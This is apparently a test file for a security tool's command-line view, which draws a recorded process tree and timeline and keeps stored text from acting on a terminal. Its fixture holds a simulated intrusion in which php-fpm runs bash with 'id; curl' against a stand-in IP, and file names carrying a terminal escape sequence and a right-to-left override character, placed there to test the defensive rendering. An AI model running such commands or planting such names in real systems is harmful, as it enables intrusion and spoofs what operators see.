import fc from 'fast-check'
import { expect, test } from 'vitest'
import { evidenceView } from '../src/cli/evidence-view.ts'
import type { Evidence, EvidenceEvent, EvidenceProcess } from '../src/recorder/evidence.ts'
import { signalOf } from './fixtures/delivery.ts'

const at = (ms: number) => `${new Date(Date.parse('2027-01-15T08:00:00Z') + Math.floor(ms)).toISOString().slice(0, -1)}000000Z`
const signal = signalOf({
  first_seen: at(0),
  event: {
    type: 'exec',
    process: {
      pid: 4711,
      file: { path: '/usr/bin/bash' },
      ancestors: [
        { pid: 4711, file: { path: '/usr/bin/env' } },
        { pid: 1203, args: '-F', file: { path: '/usr/sbin/php-fpm' } },
        { pid: 1, file: { path: '/usr/lib/systemd/systemd' } },
      ],
    },
  },
})
const evidence: Evidence = {
  from: at(-60_000),
  until: at(60_000),
  processes: [
    { process: 2, pid: 1203, parent: null, ppid: 1, file: null },
    {
      process: 5,
      pid: 4711,
      parent: 2,
      ppid: 1203,
      file: { path: '/usr/bin/bash' },
      argv0: 'bash',
      args: '-c "id; curl http://203.0.113.9/x"',
    },
    { process: 6, pid: 4712, parent: 5, ppid: 4711, file: { path: '/usr/bin/id' }, argv0: 'id', args: '' },
    { process: 7, pid: 4713, parent: 5, ppid: 4711, file: { path: '/usr/bin/curl' }, argv0: 'curl', args: 'http://203.0.113.9/x' },
    { process: 8, pid: 4699, parent: 2, ppid: 1203, file: null },
    { process: 9, pid: 4720, parent: 99, ppid: 4700, file: { path: '/tmp/\u001b[2Jx' }, args: '\u202egpj.x' },
  ],
  events: [
    { timestamp: at(-12_301), type: 'open', process: 2, details: { 'file.path': '/var/www/upload/a b.php', flags: 577 } },
    { timestamp: at(-4), type: 'fork', process: 8, ppid: 1203 },
    {
      timestamp: at(0),
      type: 'exec',
      process: 5,
      found: true,
      file: { path: '/usr/bin/bash' },
      argv0: 'bash',
      args: '-c "id; curl http://203.0.113.9/x"',
    },
    { timestamp: at(2), type: 'exec', process: 6, file: { path: '/usr/bin/id' }, argv0: 'id', args: '' },
    { timestamp: at(3), type: 'exit', process: 6, code: 0 },
    {
      timestamp: at(40),
      type: 'exec',
      process: 7,
      file: { path: '/usr/bin/curl' },
      argv0: 'curl',
      args: 'http://203.0.113.9/x',
      args_truncated: true,
    },
    { timestamp: at(59_001), type: 'exit', process: 7, signal: 9 },
    { timestamp: at(59_500), type: 'exec', process: 9, file: { path: '/tmp/\u001b[2Jx' }, args: '\u202egpj.x' },
  ],
  left_out: 3,
}

test('draws who made whom, and what happened when', () => {
  expect(`\n${evidenceView(signal, evidence)}\n`).toBe(`
processes
  1 /usr/lib/systemd/systemd
  └─ 1203 /usr/sbin/php-fpm -F
     ├─ 4699 (no program of its own)
▶    └─ 4711 /usr/bin/bash -c "id; curl http://203.0.113.9/x"
        ├─ 4712 /usr/bin/id
        └─ 4713 /usr/bin/curl http://203.0.113.9/x
  4700 (no program of its own)
  └─ 4720 /tmp/\\u{1b}[2Jx \\u{202e}gpj.x

timeline
  -12.301 s  1203  open  file.path="/var/www/upload/a b.php" flags=577
   -0.004 s  4699  fork  by 1203
▶  +0.000 s  4711  exec  /usr/bin/bash -c "id; curl http://203.0.113.9/x"
   +0.002 s  4712  exec  /usr/bin/id
   +0.003 s  4712  exit  code 0
   +0.040 s  4713  exec  /usr/bin/curl http://203.0.113.9/x …
  +59.001 s  4713  exit  signal 9
  +59.500 s  4720  exec  /tmp/\\u{1b}[2Jx \\u{202e}gpj.x
  … 3 events more than are kept
`)
})

test('lines fit the terminal', () => {
  const lines = evidenceView(signal, evidence, 50).split('\n')
  expect(Math.max(...lines.map((line) => line.length))).toBe(50)
  expect(lines).toContain('▶    └─ 4711 /usr/bin/bash -c "id; curl http://20…')
})

test('whatever is stored is drawn, once each, and cannot act on a terminal', () => {
  const text = fc.string({ unit: 'binary', maxLength: 20 })
  const number = fc.integer({ min: 0, max: 8 })
  const process: fc.Arbitrary<EvidenceProcess> = fc.record({
    process: number,
    pid: number,
    parent: fc.option(number),
    ppid: fc.option(number),
    file: fc.option(fc.record({ path: text })),
    args: text,
  })
  const event = fc.record({
    timestamp: fc.constantFrom(at(0), at(5), ''),
    type: text,
    process: number,
    details: fc.dictionary(text, fc.anything()),
  })
  const ancestors = fc.array(fc.record({ pid: number, file: fc.record({ path: text }) }), { maxLength: 20 })
  fc.assert(
    fc.property(fc.uniqueArray(process, { selector: (one) => one.process }), fc.array(event), ancestors, (processes, events, above) => {
      const some = signalOf({ event: { type: 'exec', process: { pid: 3, ancestors: above } } })
      const drawn = evidenceView(some, { ...evidence, processes, events: events as EvidenceEvent[], left_out: 0 })
      expect(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/.test(drawn)).toBe(false)
      const tree = drawn.split('\n').indexOf('')
      expect(tree).toBeGreaterThan(processes.length > 0 ? processes.length : 1)
    }),
    { numRuns: 200 },
  )
})
